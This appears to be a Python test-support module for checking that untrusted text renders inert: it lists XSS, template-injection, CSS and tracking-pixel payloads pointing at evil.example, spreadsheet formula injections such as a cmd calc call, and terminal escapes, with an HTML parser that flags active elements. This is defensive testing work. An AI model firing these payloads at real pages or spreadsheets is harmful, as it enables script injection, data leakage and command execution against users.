"""Texts that would do something where they are not taken for text, and what a page consists of besides its text."""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any

_MARKUP = """
<script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
<style>*{display:none}</style>
</style><style>@import 'http://evil.example/x.css';</style>
<img src=x onerror=alert(1)>
<img src="http://evil.example/pixel.png">
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
</svg><script>alert(1)</script>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">click</a>
<a href="http://evil.example">click</a>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example">
<link rel="stylesheet" href="http://evil.example/x.css">
<form action="http://evil.example"><input name=q>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<body onload=alert(1)>
<table><tr><td>escape</td></tr></table></table></table>
</table></div></section></main></body></html>
<!-- comment -->
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<!DOCTYPE html>
{{ 7 * 7 }}
{{ config }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% include '/etc/passwd' %}
{# hidden #}
${7*7}
%s%n%x {0} {0.__class__}
javascript:alert(1)
data:text/html;base64,PHNjcmlwdD4=
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\x3cscript\\x3ealert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<ScRiPt >alert(1)</sCrIpT >
<script/src=//evil.example></script>
<x style="background:url(http://evil.example)">
x;background:url(javascript:alert(1))
expression(alert(1))
[link](javascript:alert(1))
![picture](http://evil.example/pixel.png)
[a]: http://evil.example
<http://evil.example>
http://evil.example/?q=1
``` `code` ``` **bold** _it_ # head | cell | @channel <!here>
</textarea></noscript></template><script>alert(1)</script>
=HYPERLINK("http://evil.example")
"""
PAYLOADS = [
    *_MARKUP.strip().splitlines(),
    "\u202e<script>\u2066alert(1)\u2069",
    "<script\x00>alert(1)</script\x00>",
    "\r\n\r\n# Heading\r\n<script>alert(1)</script>",
    "\n- [x] item\n\n    code\n\n1. list",
    "\x1b[31mred\x07",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "=cmd|' /C calc'!A0",
    "\t@SUM(1)",
    "{{ 7 * 7 }}{% raw %}",
    "＜script＞alert(1)＜/script＞",
    "\ud800<b>\udfff",
    "'\"`<>&\\/",
]


class Page(HTMLParser):
    """Everything but the text: elements with all their attributes, comments, declarations; and the style."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.nodes: list[tuple[str, Any]] = []
        self.words: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.nodes.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self.nodes.append(("/" + tag, None))

    def handle_comment(self, data: str) -> None:
        self.nodes.append(("comment", data))

    handle_pi = unknown_decl = handle_comment

    def handle_decl(self, decl: str) -> None:
        self.nodes.append(("declaration", decl))

    def handle_data(self, data: str) -> None:
        in_style = bool(self.nodes) and self.nodes[-1][0] == "style"
        (self.nodes.append(("css", data)) if in_style else self.words.append(data))


def intruders(page: str, expected: Page) -> list[Any]:
    """What ``page`` has in its structure that the page with harmless texts does not have at that place."""
    seen = Page(page).nodes
    odd = [a for a, b in zip(seen, expected.nodes, strict=False) if a != b]
    return odd or seen[len(expected.nodes) :] or expected.nodes[len(seen) :]


ACTIVE = {
    *("script", "iframe", "frame", "object", "embed", "link", "base", "form", "input", "a", "area", "template"),
    *("video", "audio", "source", "applet", "math", "animate", "set", "foreignobject", "use", "image", "marquee"),
}
LEADING = ("href", "xlink:href", "src", "srcset", "srcdoc", "action", "formaction", "data", "background", "poster")


def active(page: str) -> list[Any]:
    """What in ``page`` runs, leads elsewhere or loads something: elements and attributes that no page of ours has."""
    found: list[Any] = []
    for tag, attributes in Page(page).nodes:
        if tag.lower() in ACTIVE or (tag == "declaration" and attributes != "DOCTYPE html"):
            found.append(tag)
        if tag == "css" and ("url(" in attributes or "@import" in attributes):
            found.append(tag)
        for name, value in attributes if isinstance(attributes, list) else ():
            word = "".join((value or "").split()).lower()
            inert = name == "src" and tag == "img" and word.startswith("data:image/png;base64,")
            if (name in LEADING and not inert) or name.startswith("on") or "javascript:" in word or "url(" in word:
                found.append((tag, name, value))
            if (name, word) == ("http-equiv", "refresh"):
                found.append((tag, name, value))
    return found


FORMULAS = [
    *('=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "-2+cmd|' /C'!A0", "@SUM(1)"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\0=1+1", "\ufeff=1+1", "\uff1d1+1", "a;=1+1", 'a",=1+1', "a\n=1+1"),
]
